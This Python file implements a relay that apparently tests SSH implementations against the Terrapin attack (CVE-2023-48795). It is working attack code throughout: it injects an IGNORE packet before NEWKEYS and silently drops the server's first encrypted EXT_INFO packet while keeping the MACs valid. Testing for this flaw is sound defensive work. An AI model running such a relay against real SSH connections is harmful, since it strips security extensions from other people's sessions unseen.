"""Somebody between a client and a server who cuts the beginning off the encrypted stream, unseen: CVE-2023-48795, "Terrapin".

Before NEWKEYS packets are not authenticated, so that one more can be slipped in: an IGNORE, which nobody minds. It moves the sequence
number of all that follow by one, and therefore the first encrypted packet can be left out without any MAC being wrong: the server's
EXT_INFO, with the signature algorithms and features that it says. Who has strict key exchange notices either.

    with TruncatingRelay(server.port) as relay:
        ... a client connects to relay.port ...
    relay.dropped       bytes that were left out, which is 0 when it did not come that far
"""

import socket
import threading

from harness import HOST
from raw_ssh import IGNORE, NEWKEYS, PATIENCE, Peer, message


class TruncatingRelay:
    def __init__(self, server_port):
        self.server_port, self.dropped = server_port, 0
        self.listener = socket.create_server((HOST, 0))
        self.port = self.listener.getsockname()[1]
        self.may_go_on = threading.Event()    # what the client says under its keys is held until the server has said its first
        self.threads = [threading.Thread(target=self.serve, daemon=True)]

    def __enter__(self):
        self.threads[0].start()
        return self

    def __exit__(self, *_):
        self.listener.close()
        for thread in self.threads:
            thread.join(PATIENCE)

    def serve(self):
        client = self.listener.accept()[0]
        with client, socket.create_connection((HOST, self.server_port), PATIENCE) as server:
            client.settimeout(PATIENCE)
            back = threading.Thread(target=self.pass_on, args=(client, server, self.from_client), daemon=True)
            back.start()
            self.pass_on(server, client, self.from_server)
            self.may_go_on.set()
            back.join(PATIENCE)

    def pass_on(self, source, target, handshake):
        try:
            handshake(Peer(source), target)
            while data := source.recv(65536):
                target.sendall(data)
            target.shutdown(socket.SHUT_WR)
        except Exception:    # either end may hang up at any time, which ends the other way too
            for end in (source, target):
                try:
                    end.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass

    def from_client(self, peer, server):
        self.pass_clear_packets(peer, server)
        self.may_go_on.wait(PATIENCE)
        server.sendall(peer.unread)

    def from_server(self, peer, client):
        self.pass_clear_packets(peer, client, first=lambda: client.sendall(Peer(client).frame(message(IGNORE, b""))))
        self.dropped = len(peer.unread or peer.receive())    # the server has nothing else to say until it is asked
        self.may_go_on.set()

    @staticmethod
    def pass_clear_packets(peer, target, first=lambda: None):
        """The version line, and all up to NEWKEYS. first: what to do after the line."""
        target.sendall(peer.read_line() + b"\r\n")
        first()
        payload = None
        while payload is None or payload[0] != NEWKEYS:
            payload = peer.read_packet()
            target.sendall(repack(payload))


def repack(payload):
    """A packet in the clear; its padding is nobody's business."""
    padding = 8 - (len(payload) + 5) % 8
    padding += 8 if padding < 4 else 0
    return (len(payload) + 1 + padding).to_bytes(4, "big") + bytes([padding]) + payload + bytes(padding)
